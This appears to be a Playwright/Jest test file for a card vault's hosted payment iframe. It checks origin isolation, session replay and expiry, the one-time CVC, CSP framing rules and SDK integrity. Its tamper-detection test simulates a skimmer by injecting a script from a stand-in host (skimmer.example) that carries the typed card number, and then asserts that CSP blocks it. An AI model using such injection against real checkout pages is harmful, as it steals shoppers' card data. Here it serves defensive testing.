// The hosted card form in a real browser: the demo checkout end to end, origin isolation, session misuse, the CVC once.
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import type { Server } from 'node:http';
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
import { SessionTokens } from '../../src/crypto/session-signer';
import { launchChromium, listen, originOf, startHostedStack, type HostedStack } from '../support/browser';
import { countCards } from '../support/http';
import { newPan, recordPan } from '../support/pans';
import { RUN_DIR } from '../support/env';

jest.setTimeout(60_000);

interface Recorded {
  origin: string;
  data: string;
}
// What the in-page callbacks below touch; the project compiles without the DOM library.
interface MountedForm {
  submit(): Promise<unknown>;
  unmount(): void;
}
declare const window: {
  __messages: Recorded[];
  CardVault: { mount(options: { session: string; container: unknown; readyTimeoutMs?: number; onError?: (error: { code: string }) => void }): MountedForm };
  addEventListener(type: 'message', listener: (event: { origin: string; data: unknown }) => void, capture: boolean): void;
};
declare const document: {
  querySelector(selector: string): { contentDocument: unknown; contentWindow: { document: unknown } };
  getElementById(id: string): unknown;
  createElement(tag: string): unknown;
  body: { appendChild(node: unknown): void };
};

/** A published test card (Stripe's Visa), as the README tells a newcomer to type. */
const TEST_CARD = recordPan('4242424242424242');
const CVC = '739';
const EXP_YEAR = new Date().getUTCFullYear() + 3;
// Every run captures into the run folder; UPDATE_SCREENSHOT=1 refreshes the copy the README shows.
const SCREENSHOT = process.env.UPDATE_SCREENSHOT === '1' ? path.join(__dirname, 'hosted-form.png') : path.join(RUN_DIR, 'hosted-form.png');

let stack: HostedStack;
let browser: Browser;

beforeAll(async () => {
  [stack, browser] = await Promise.all([startHostedStack(), launchChromium()]);
});

afterAll(async () => {
  await browser?.close();
  await stack?.close();
});

/** Every message either window receives, recorded before any page script runs (init scripts run in every frame). */
async function recordingContext(): Promise<BrowserContext> {
  const context = await browser.newContext();
  await context.addInitScript(() => {
    const seen: Recorded[] = [];
    window.__messages = seen;
    window.addEventListener('message', (event) => seen.push({ origin: event.origin, data: JSON.stringify(event.data) }), true);
  });
  return context;
}

const messagesIn = (frame: Page | Frame) => frame.evaluate(() => window.__messages);

function formFrame(page: Page): Frame {
  const frame = page.frames().find((f) => f.url().startsWith(`${stack.vaultOrigin}/hosted/card-form`));
  if (!frame) throw new Error('the card form frame is not there');
  return frame;
}

async function api(method: string, route: string, key: string | undefined, body?: unknown, headers: Record<string, string> = {}) {
  const response = await fetch(`${stack.vaultOrigin}${route}`, {
    method,
    headers: { ...(key ? { Authorization: `Bearer ${key}` } : {}), ...(body ? { 'Content-Type': 'application/json' } : {}), ...headers },
    body: body ? JSON.stringify(body) : undefined,
  });
  const text = await response.text();
  return { status: response.status, headers: response.headers, text, json: () => JSON.parse(text) as Record<string, any> };
}

const newSession = async (origins = [stack.demo.origin], ttl?: number) =>
  (await api('POST', '/v1/client-sessions', stack.tenant.keys.merchant, { allowed_origins: origins, ...(ttl ? { ttl_seconds: ttl } : {}) })).json()
    .session as string;

const formUrl = (session: string, origin: string) =>
  `/hosted/card-form?session=${encodeURIComponent(session)}&origin=${encodeURIComponent(origin)}`;

/** What the form would POST, as JSON (the route takes JSON or JWE alike): here only the session is under test. */
const hostedTokenize = (session: string, parentOrigin: string) =>
  api('POST', '/hosted/tokens', undefined, { card: { number: newPan(), exp_month: 12, exp_year: EXP_YEAR, cvc: '123' } }, {
    Authorization: `ClientSession ${session}`,
    'X-Parent-Origin': parentOrigin,
  });

/** A JWE body for POST /hosted/tokens, with the session and the parent origin the form would send. */
async function joseTokenize(session: string, jwe: string) {
  const response = await fetch(`${stack.vaultOrigin}/hosted/tokens`, {
    method: 'POST',
    headers: { Authorization: `ClientSession ${session}`, 'X-Parent-Origin': stack.demo.origin, 'Content-Type': 'application/jose' },
    body: jwe,
  });
  const text = await response.text();
  return { status: response.status, json: () => JSON.parse(text) as Record<string, any> };
}

describe('the demo checkout, end to end', () => {
  let page: Page;
  let result: { token: string; brand: string; last4: string; exp_month: number; exp_year: number };
  let usedSession: string;

  beforeAll(async () => {
    const context = await recordingContext();
    page = await context.newPage();
    await page.goto(stack.demo.origin);
    const frame = page.frameLocator('#card-frame iframe');
    await frame.locator('#card-number').pressSequentially(TEST_CARD);
    await frame.locator('#card-expiry').pressSequentially(`12${String(EXP_YEAR).slice(2)}`);
    await frame.locator('#card-cvc').pressSequentially(CVC);
    await frame.locator('#card-name').fill('Ada Lovelace');
    await expect(frame.locator('#card-number').inputValue()).resolves.toBe('4242 4242 4242 4242');
    await expect(frame.locator('#card-brand').textContent()).resolves.toBe('Visa');
    await page.locator('#card-frame iframe').screenshot({ path: SCREENSHOT });
    expect(fs.statSync(SCREENSHOT).size).toBeGreaterThan(1000);
    await page.click('#pay');
    await page.waitForSelector('#result[data-state="token"]', { timeout: 15_000 });
    result = JSON.parse((await page.textContent('#result'))!);
    usedSession = (await page.getAttribute('#card-frame', 'data-session'))!;
  });

  afterAll(() => page?.context().close());

  it('hands the parent the token, brand, last 4 and expiry, and a backend detokenizes it to the typed PAN', async () => {
    expect(Object.keys(result).sort()).toEqual(['brand', 'exp_month', 'exp_year', 'last4', 'token']);
    expect(result).toMatchObject({ brand: 'visa', last4: '4242', exp_month: 12, exp_year: EXP_YEAR });
    const detokenized = await api('POST', `/v1/tokens/${result.token}/detokenize`, stack.tenant.keys.payments, { purpose: 'refund' });
    expect(detokenized.status).toBe(200);
    expect(detokenized.json().card.number).toBe(TEST_CARD);
  });

  it('reveals the CVC once, to an authorization, then never again', async () => {
    const route = `/v1/tokens/${result.token}/detokenize`;
    const first = await api('POST', route, stack.tenant.keys.payments, { purpose: 'authorization' });
    expect(first.json().card).toMatchObject({ number: TEST_CARD, cvc: CVC });
    const second = await api('POST', route, stack.tenant.keys.payments, { purpose: 'authorization' });
    expect(second.status).toBe(200);
    expect(second.json().card.cvc).toBeUndefined();
  });

  it('keeps the card fields out of the parent page: the frame is cross-origin', async () => {
    const reach = await page.evaluate(() => {
      const iframe = document.querySelector('#card-frame iframe');
      let document_: string;
      try {
        document_ = iframe.contentWindow.document ? 'readable' : 'null';
      } catch {
        document_ = 'threw';
      }
      return { contentDocument: iframe.contentDocument === null, document: document_ };
    });
    expect(reach).toEqual({ contentDocument: true, document: 'threw' });
  });

  it('sends neither the PAN nor the CVC by postMessage, in either direction, and only between the two exact origins', async () => {
    const parent = await messagesIn(page);
    const form = await messagesIn(formFrame(page));
    expect(parent.some((m) => m.data.includes('"result"'))).toBe(true);
    expect(form.some((m) => m.data.includes('"submit"'))).toBe(true);
    expect(new Set(parent.map((m) => m.origin))).toEqual(new Set([stack.vaultOrigin]));
    expect(new Set(form.map((m) => m.origin))).toEqual(new Set([stack.demo.origin]));
    for (const message of [...parent, ...form]) {
      expect(message.data).not.toContain(TEST_CARD);
      expect(message.data).not.toContain('4242 4242');
      expect(message.data).not.toMatch(/"(number|cvc|card)"/);
      expect(message.data).not.toContain(`"${CVC}"`);
    }
  });

  it("tells the merchant's page when the form cannot come up (a used session): onError and submit() with form_unavailable", async () => {
    const outcome = await page.evaluate(async (session) => {
      const container = document.createElement('div');
      document.body.appendChild(container);
      const errors: string[] = [];
      const form = window.CardVault.mount({ session, container, readyTimeoutMs: 1500, onError: (e) => errors.push(e.code) });
      const submitted = await form.submit().then(
        () => 'resolved',
        (e: { code: string }) => e.code,
      );
      form.unmount();
      return { errors, submitted };
    }, usedSession);
    expect(outcome).toEqual({ errors: ['form_unavailable'], submitted: 'form_unavailable' });
  });

  it('refuses the used session, replayed, and stores nothing', async () => {
    const before = await countCards(stack.h.db, stack.tenant.tenant.id);
    const page_ = await api('GET', formUrl(usedSession, stack.demo.origin), undefined);
    expect(page_.status).toBe(401);
    expect(page_.text).not.toContain('card-number');
    const replay = await hostedTokenize(usedSession, stack.demo.origin);
    expect(replay.status).toBe(401);
    expect(replay.json().code).toBe('session_used');
    expect(await countCards(stack.h.db, stack.tenant.tenant.id)).toBe(before);
  });
});

describe('the form as the shopper types', () => {
  it('formats the number, names the brand, and explains a bad number, an old expiry and a short CVC accessibly', async () => {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      await page.goto(stack.demo.origin);
      const frame = page.frameLocator('#card-frame iframe');
      await frame.locator('#card-number').pressSequentially('378282246310006');
      expect(await frame.locator('#card-number').inputValue()).toBe('3782 822463 10006');
      expect(await frame.locator('#card-brand').textContent()).toBe('American Express');
      expect(await frame.locator('#card-number').getAttribute('aria-invalid')).toBe('true');
      expect(await frame.locator('#card-number-error').textContent()).toMatch(/not valid/);
      await frame.locator('#card-expiry').pressSequentially('0120');
      expect(await frame.locator('#card-expiry-error').textContent()).toBe('The card has expired.');
      await frame.locator('#card-cvc').pressSequentially('12');
      await page.click('#pay');
      await page.waitForSelector('#result[data-state="error"]');
      expect(await frame.locator('#card-cvc-error').textContent()).toBe('Enter the 4-digit security code.');
      expect(await frame.locator('#card-number').getAttribute('autocomplete')).toBe('cc-number');
      expect(await frame.getByLabel('Security code').getAttribute('autocomplete')).toBe('cc-csc');
    } finally {
      await context.close();
    }
  });
});

describe('what the form reads and refuses before the session is spent', () => {
  /** The demo checkout, with every POST /hosted/tokens it makes counted. */
  async function checkout(context: BrowserContext) {
    const page = await context.newPage();
    const posts: string[] = [];
    page.on('request', (req) => {
      if (req.method() === 'POST' && req.url() === `${stack.vaultOrigin}/hosted/tokens`) posts.push(req.url());
    });
    await page.goto(stack.demo.origin);
    return { page, posts, frame: page.frameLocator('#card-frame iframe') };
  }

  async function pay(page: Page, expected: 'token' | 'error') {
    await page.click('#pay');
    await page.waitForSelector(`#result[data-state="${expected}"]`, { timeout: 15_000 });
    return { text: (await page.textContent('#result'))! };
  }

  it('reads an expiry autofilled as MM/YYYY (what Chromium fills in a 7-character cc-exp field) by its year, not its century', async () => {
    const context = await browser.newContext();
    try {
      const { page, frame } = await checkout(context);
      await frame.locator('#card-number').fill(recordPan('5555555555554444'));
      // fill() sets the value and fires one input event, as autofill and paste do.
      await frame.locator('#card-expiry').fill(`07/${EXP_YEAR}`);
      expect(await frame.locator('#card-expiry').inputValue()).toBe(`07 / ${String(EXP_YEAR).slice(2)}`);
      expect(await frame.locator('#card-expiry-error').textContent()).toBe('');
      await frame.locator('#card-cvc').fill('123');
      const paid = await pay(page, 'token');
      expect(JSON.parse(paid.text)).toMatchObject({ last4: '4444', exp_month: 7, exp_year: EXP_YEAR });
    } finally {
      await context.close();
    }
  });

  it('reads digits typed or pasted in another script (full-width, Arabic-Indic) as the same digits, and vaults them', async () => {
    const context = await browser.newContext();
    try {
      const { page, frame } = await checkout(context);
      const pan = recordPan('4111111111111111');
      // A Japanese IME in full-width mode, and an Arabic keyboard, type these rather than ASCII digits.
      const fullWidth = (digits: string) => [...digits].map((d) => String.fromCodePoint(0xff10 + Number(d))).join('');
      const arabicIndic = (digits: string) => [...digits].map((d) => String.fromCodePoint(0x0660 + Number(d))).join('');
      await frame.locator('#card-number').fill(fullWidth(pan));
      expect(await frame.locator('#card-number').inputValue()).toBe('4111 1111 1111 1111');
      await frame.locator('#card-expiry').fill(arabicIndic(`12${String(EXP_YEAR).slice(2)}`));
      expect(await frame.locator('#card-expiry').inputValue()).toBe(`12 / ${String(EXP_YEAR).slice(2)}`);
      await frame.locator('#card-cvc').fill(fullWidth('123'));
      expect(await frame.locator('#card-cvc').inputValue()).toBe('123');
      const paid = await pay(page, 'token');
      expect(JSON.parse(paid.text)).toMatchObject({ last4: '1111', exp_month: 12, exp_year: EXP_YEAR });
    } finally {
      await context.close();
    }
  });

  it('refuses an expiry year the vault would refuse (a typo like 62 for 26) in the form, keeping the session, then takes the fix', async () => {
    const context = await browser.newContext();
    try {
      const { page, posts, frame } = await checkout(context);
      await frame.locator('#card-number').pressSequentially(recordPan('4111111111111111'));
      // The vault refuses a year more than 30 years ahead (src/domain/expiry.ts) with invalid_expiry.
      const tooFar = String((new Date().getUTCFullYear() + 31) % 100).padStart(2, '0');
      await frame.locator('#card-expiry').pressSequentially(`12${tooFar}`);
      await frame.locator('#card-cvc').pressSequentially('123');
      expect((await pay(page, 'error')).text).toBe('Not saved: invalid_card');
      expect(await frame.locator('#card-expiry-error').textContent()).toMatch(/year/);
      expect(posts).toHaveLength(0);

      await frame.locator('#card-expiry').fill(`12${String(EXP_YEAR).slice(2)}`);
      const paid = await pay(page, 'token');
      expect(JSON.parse(paid.text)).toMatchObject({ last4: '1111', exp_month: 12, exp_year: EXP_YEAR });
      expect(posts).toHaveLength(1);
    } finally {
      await context.close();
    }
  });

  it('sends a pasted name with a tab in it as the vault takes it, rather than have it refused and the session spent', async () => {
    const context = await browser.newContext();
    try {
      const { page, posts, frame } = await checkout(context);
      await frame.locator('#card-number').pressSequentially(recordPan('4242424242424242'));
      await frame.locator('#card-expiry').pressSequentially(`12${String(EXP_YEAR).slice(2)}`);
      await frame.locator('#card-cvc').pressSequentially('123');
      // A text input strips line breaks from what is pasted into it, but keeps tabs (copied from a spreadsheet, say).
      await frame.locator('#card-name').fill('Ada\tLovelace');
      expect(await frame.locator('#card-name').inputValue()).toBe('Ada\tLovelace');
      const paid = await pay(page, 'token');
      expect(JSON.parse(paid.text)).toMatchObject({ last4: '4242' });
      expect(posts).toHaveLength(1);
    } finally {
      await context.close();
    }
  });
});

describe('an answer from the vault is final', () => {
  it('after a 400 it submits no second time, hands the merchant the real code again, and asks the shopper to reload', async () => {
    const context = await recordingContext();
    try {
      // The browser's clock is a year before the card's expiry month; the vault's is not, so only the vault refuses it.
      await context.clock.setFixedTime(new Date(Date.UTC(2020, 0, 15)));
      const page = await context.newPage();
      const posts: string[] = [];
      page.on('request', (req) => {
        if (req.method() === 'POST' && req.url() === `${stack.vaultOrigin}/hosted/tokens`) posts.push(req.url());
      });
      await page.goto(stack.demo.origin);
      const frame = page.frameLocator('#card-frame iframe');
      await frame.locator('#card-number').pressSequentially(recordPan('5555555555554444'));
      await frame.locator('#card-expiry').pressSequentially('0121');
      await frame.locator('#card-cvc').pressSequentially('123');
      const errors = async () =>
        (await messagesIn(page)).map((m) => JSON.parse(m.data) as { type?: string; code?: string }).filter((m) => m.type === 'error');

      await page.click('#pay');
      await page.waitForSelector('#result[data-state="error"]', { timeout: 15_000 });
      expect(await page.textContent('#result')).toBe('Not saved: card_expired');
      expect(await frame.locator('#form-status').textContent()).toMatch(/reload/i);
      expect(await frame.locator('#card-number').isDisabled()).toBe(true);

      await page.click('#pay');
      await page.waitForFunction(() => window.__messages.filter((m) => m.data.includes('"error"')).length >= 2, undefined, { timeout: 15_000 });
      expect((await errors()).map((m) => m.code)).toEqual(['card_expired', 'card_expired']);
      expect(posts).toHaveLength(1);
    } finally {
      await context.close();
    }
  });
});

describe('the JWE the form sends', () => {
  it('names its session in the protected header: refused with another session, taken with its own', async () => {
    const context = await recordingContext();
    try {
      let sent: string | null = null;
      // Held back from the vault, as by someone on the way: the card never arrives and the session stays unused.
      await context.route(`${stack.vaultOrigin}/hosted/tokens`, async (route) => {
        sent = route.request().postData();
        await route.abort();
      });
      const page = await context.newPage();
      await page.goto(stack.demo.origin);
      const frame = page.frameLocator('#card-frame iframe');
      await frame.locator('#card-number').pressSequentially(recordPan('4111111111111111'));
      await frame.locator('#card-expiry').pressSequentially(`12${String(EXP_YEAR).slice(2)}`);
      await frame.locator('#card-cvc').pressSequentially('123');
      await page.click('#pay');
      await page.waitForSelector('#result[data-state="error"]', { timeout: 15_000 });
      const session = (await page.getAttribute('#card-frame', 'data-session'))!;
      const jwe = sent as string | null;
      expect(jwe).toMatch(/^[A-Za-z0-9_-]+(\.[A-Za-z0-9_-]+){4}$/);
      const header = JSON.parse(Buffer.from(jwe!.split('.')[0]!, 'base64url').toString('utf8')) as Record<string, unknown>;
      expect(Object.keys(header).sort()).toEqual(['alg', 'cardvault_session', 'enc', 'kid']);
      expect(header.cardvault_session).toBe(createHash('sha256').update(session, 'utf8').digest('base64url'));

      const before = await countCards(stack.h.db, stack.tenant.tenant.id);
      const other = await joseTokenize(await newSession(), jwe!);
      expect({ status: other.status, code: other.json().code }).toEqual({ status: 400, code: 'invalid_jwe' });
      expect(await countCards(stack.h.db, stack.tenant.tenant.id)).toBe(before);
      const own = await joseTokenize(session, jwe!);
      expect(own.status).toBe(201);
      expect(own.json().card.last4).toBe('1111');
    } finally {
      await context.close();
    }
  });
});

describe('sessions and origins', () => {
  it('frames the form only in the session origins, and nothing else in any page', async () => {
    const session = await newSession();
    const form = await api('GET', formUrl(session, stack.demo.origin), undefined);
    expect(form.status).toBe(200);
    const csp = form.headers.get('content-security-policy')!;
    expect(csp).toContain(`frame-ancestors ${stack.demo.origin}`);
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("connect-src 'self'");
    expect(csp).not.toContain('unsafe-inline');
    expect(form.headers.get('x-frame-options')).toBeNull();
    expect(form.text).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    for (const route of ['/healthz', '/hosted/sdk.json', formUrl(session, 'http://localhost:1')]) {
      const other = await api('GET', route, undefined);
      expect(other.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
      expect(other.headers.get('x-frame-options')).toBe('DENY');
    }
  });

  it('publishes the SDK at an immutable versioned URL with its sha384', async () => {
    const published = (await api('GET', '/hosted/sdk.json', undefined)).json();
    expect(published.version).toBe('1.1.0');
    const sdk = await fetch(`${stack.vaultOrigin}/hosted/sdk/1.1.0.js`);
    expect(sdk.headers.get('cache-control')).toContain('immutable');
    const bytes = Buffer.from(await sdk.arrayBuffer());
    expect(published.integrity).toBe(`sha384-${createHash('sha384').update(bytes).digest('base64')}`);
    expect(bytes.toString('utf8')).toContain("SDK_VERSION = '1.1.0'");
  });

  it('refuses an expired session, for the page and for tokenize, and stores nothing', async () => {
    const past = Date.now() - 2 * 3600_000;
    const signer = stack.h.parts.signer;
    const codec = new SessionTokens((p, typ) => signer.sign(p, typ), (jws) => signer.verify(jws), { now: () => new Date(past) });
    const expired = await codec.issue({
      id: globalThis.crypto.randomUUID(),
      tenantId: stack.tenant.tenant.id,
      allowedOrigins: [stack.demo.origin],
      issuedAt: new Date(Math.floor(past / 1000) * 1000),
      expiresAt: new Date(Math.floor(past / 1000) * 1000 + 900_000),
    });
    const before = await countCards(stack.h.db, stack.tenant.tenant.id);
    const page = await api('GET', formUrl(expired, stack.demo.origin), undefined);
    expect(page.status).toBe(401);
    expect(page.text).not.toContain('card-number');
    const tokenize = await hostedTokenize(expired, stack.demo.origin);
    expect(tokenize.json().code).toBe('session_expired');
    expect(await countCards(stack.h.db, stack.tenant.tenant.id)).toBe(before);
  });

  it('refuses a session used from an origin it was not issued for, and leaves it unused', async () => {
    const session = await newSession();
    const before = await countCards(stack.h.db, stack.tenant.tenant.id);
    expect((await api('GET', formUrl(session, 'http://localhost:1'), undefined)).status).toBe(403);
    const tokenize = await hostedTokenize(session, stack.vaultOrigin);
    expect(tokenize.status).toBe(403);
    expect(tokenize.json().code).toBe('session_origin_mismatch');
    expect(await countCards(stack.h.db, stack.tenant.tenant.id)).toBe(before);
    expect((await api('GET', formUrl(session, stack.demo.origin), undefined)).status).toBe(200);
  });

  it('is blocked by the browser when a page on another origin frames it, even claiming an allowed origin', async () => {
    const session = await newSession();
    const frameOf = (src: string) => `<!doctype html><title>shop</title><iframe src="${src.replace(/&/g, '&amp;')}"></iframe>`;
    let allowed = '';
    const rogue: Server = await listen((req, res) => {
      const src = req.url === '/allowed' ? allowed : `${stack.vaultOrigin}${formUrl(session, stack.demo.origin)}`;
      res.writeHead(200, { 'Content-Type': 'text/html' }).end(frameOf(src));
    });
    const rogueOrigin = originOf(rogue, 'localhost');
    // The control: the same page, framing a session issued for its own origin, does show the form.
    allowed = `${stack.vaultOrigin}${formUrl(await newSession([rogueOrigin]), rogueOrigin)}`;
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const formIn = async (route: string) => {
        await page.goto(`${rogueOrigin}${route}`, { waitUntil: 'load' });
        const child = page.frames().find((f) => f !== page.mainFrame())!;
        return { url: child.url(), form: await child.evaluate(() => document.getElementById('card-number') !== null) };
      };
      expect((await formIn('/allowed')).form).toBe(true);
      const blocked = await formIn('/');
      // Chromium swaps a frame refused by frame-ancestors for its own error document.
      expect(blocked.form).toBe(false);
      expect(blocked.url).not.toContain('/hosted/card-form');
      // Serving (or refusing to frame) the page never consumed the session: its own merchant can still use it.
      expect((await api('GET', formUrl(session, stack.demo.origin), undefined)).status).toBe(200);
      // And the browser reported the refusal to the vault, which logged it without the session from the page's URL.
      const reported = await cspReports((v) => v.directive === 'frame-ancestors');
      expect(reported[0]).toEqual({ directive: 'frame-ancestors', blocked: stack.vaultOrigin, disposition: 'enforce' });
      expect(stack.h.captured.lines.join('')).not.toContain(session);
    } finally {
      await context.close();
      await new Promise<void>((resolve) => rogue.close(() => resolve()));
    }
  });
});

describe('tamper detection (PCI DSS 11.6.1)', () => {
  it('blocks a script injected into the form and the browser reports it, by origin only, with nothing typed leaking', async () => {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      await page.goto(stack.demo.origin);
      await page.frameLocator('#card-frame iframe').locator('#card-number').pressSequentially(TEST_CARD);
      // What a skimmer injected into the page would do: load a script from elsewhere, carrying what was typed.
      await formFrame(page).evaluate(() => {
        const doc = document as unknown as {
          createElement(tag: string): { src: string };
          getElementById(id: string): { value: string };
          body: { appendChild(node: unknown): void };
        };
        const script = doc.createElement('script');
        script.src = `https://skimmer.example/collect.js?pan=${doc.getElementById('card-number').value.replace(/ /g, '')}`;
        doc.body.appendChild(script);
      });
      const reported = await cspReports((v) => v.blocked === 'https://skimmer.example');
      expect(reported[0]).toEqual({ directive: 'script-src-elem', blocked: 'https://skimmer.example', disposition: 'enforce' });
      expect(stack.h.captured.lines.join('')).not.toContain(TEST_CARD);
    } finally {
      await context.close();
    }
  });
});

/** CSP violations the vault logged that match, waiting up to 10 s for the browser to send its report. */
async function cspReports(match: (v: { directive: string; blocked: string; disposition: string }) => boolean) {
  for (let waited = 0; waited < 10_000; waited += 100) {
    const found = stack.h.captured
      .entries()
      .map((e) => e.csp as { directive: string; blocked: string; disposition: string } | undefined)
      .filter((v): v is { directive: string; blocked: string; disposition: string } => v !== undefined && match(v));
    if (found.length > 0) return found;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error('the browser sent no matching CSP report within 10 s');
}
